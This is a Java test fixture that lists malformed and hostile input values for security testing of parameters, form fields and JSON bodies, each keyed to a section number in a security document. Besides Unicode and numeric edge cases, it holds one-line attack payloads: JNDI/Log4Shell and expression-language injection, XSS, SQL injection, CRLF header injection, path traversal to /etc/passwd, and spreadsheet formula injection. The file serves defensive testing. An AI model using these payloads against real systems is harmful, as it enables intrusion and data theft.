package org.youju.security;

import java.util.List;
import java.util.stream.Stream;

/** The bad inputs of security.md §3.3, by its numbers, as text and as JSON. */
final class BadInputs {
  static final int LONG = 100_000;

  private BadInputs() {}

  /** One value that a parameter or a field of a form can carry. */
  record Bad(String number, String value) {}

  private static final List<Bad> TEXTS =
      List.of(
          new Bad("1", ""),
          new Bad("2", " \u3000 "),
          new Bad("3", "党\u0000员"),
          new Bad("5", "𠮷㐂\uD842\uDFB7"),
          new Bad("6", "阿卜杜·外力•江・"),
          new Bad("7", "长".repeat(LONG)),
          new Bad("8", "会议\u202Excod.exe"),
          new Bad("9", "ad\u200Bmin"),
          new Bad("10", "ａｄｍｉｎ"),
          new Bad("11", "İıadmın"),
          new Bad("12", "👨‍👩‍👧‍👦🇨🇳"),
          new Bad("13", "一\r\n二\rSet-Cookie: x=1"),
          new Bad("14", "\u001B[31m红\u001B[0m"),
          new Bad("15", "${jndi:ldap://x}"),
          new Bad("16", "__${T(java.lang.Runtime).getRuntime()}__::.x"),
          new Bad("17", "#{7*7}${7*7}*{7*7}~{::x}"),
          new Bad("18", "<script>alert(1)</script>"),
          new Bad("19", "\"><img src=x onerror=1>"),
          new Bad("20", "javascript:alert(1)"),
          new Bad("21", "' OR '1'='1"),
          new Bad("22", "1;DROP TABLE x"),
          new Bad("23", "%' OR 1=1 --"),
          new Bad("23", "%"),
          new Bad("23", "_"),
          new Bad("24", "id,(CASE WHEN 1=1 THEN 1 ELSE 2 END)"),
          new Bad("29", "-1"),
          new Bad("30", "0"),
          new Bad("31", "2147483648"),
          new Bad("31", "9223372036854775808"),
          new Bad("32", "0.30000000000000004"),
          new Bad("33", "NaN"),
          new Bad("33", "Infinity"),
          new Bad("34", "1,000"),
          new Bad("35", "１２"),
          new Bad("36", "1000000000"),
          new Bad("37", "2023-02-29"),
          new Bad("38", "0000-01-01"),
          new Bad("38", "9999-12-31"),
          new Bad("38", "10000-01-01"),
          new Bad("39", "2199-01-01"),
          new Bad("41", "1988-04-17"),
          new Bad("42", "11010519491231002x"),
          new Bad("43", "0198a000-0000-7000-8000-000000000000"),
          new Bad("53", "../../etc/passwd"),
          new Bad("64", "=HYPERLINK(\"http://x/\"&A1)"),
          new Bad("64", "+cmd|' /C calc'!A0"),
          new Bad("64", "@SUM(1)"));

  /** What only JSON can say, written as it stands in the body. */
  private static final List<Bad> JSON =
      List.of(
          new Bad("4", "\"\\uD800\""),
          new Bad("28", "1e400"),
          new Bad("28", "-0"),
          new Bad("29", "-1"),
          new Bad("31", "9223372036854775808"),
          new Bad("33", "NaN"),
          new Bad("null", "null"),
          new Bad("type", "true"),
          new Bad("type", "[]"),
          new Bad("type", "{}"),
          new Bad("type", "[[]]"),
          new Bad("type", "[null]"),
          new Bad("type", "{\"\":\"\"}"),
          new Bad("type", "{\"a\":1e9}"),
          new Bad("type", "[{\"person\":\"x\",\"role\":\"host\"}]"),
          new Bad("type", "[{\"person\":null}]"),
          new Bad("27", "[".repeat(10_000) + "]".repeat(10_000)));

  static List<Bad> texts() {
    return TEXTS;
  }

  /**
   * Every value of a field in JSON: the texts as strings and in a list, and what only JSON can say.
   */
  static Stream<Bad> json() {
    return Stream.concat(
        JSON.stream(),
        TEXTS.stream()
            .flatMap(
                bad ->
                    Stream.of(
                        new Bad(bad.number(), quoted(bad.value())),
                        new Bad(bad.number(), "[" + quoted(bad.value()) + "]"))));
  }

  private static String quoted(String text) {
    StringBuilder quoted = new StringBuilder("\"");
    for (char c : text.toCharArray()) {
      if (c < ' ' || c == '"' || c == '\\') {
        quoted.append(String.format("\\u%04x", (int) c));
      } else {
        quoted.append(c);
      }
    }
    return quoted.append('"').toString();
  }
}
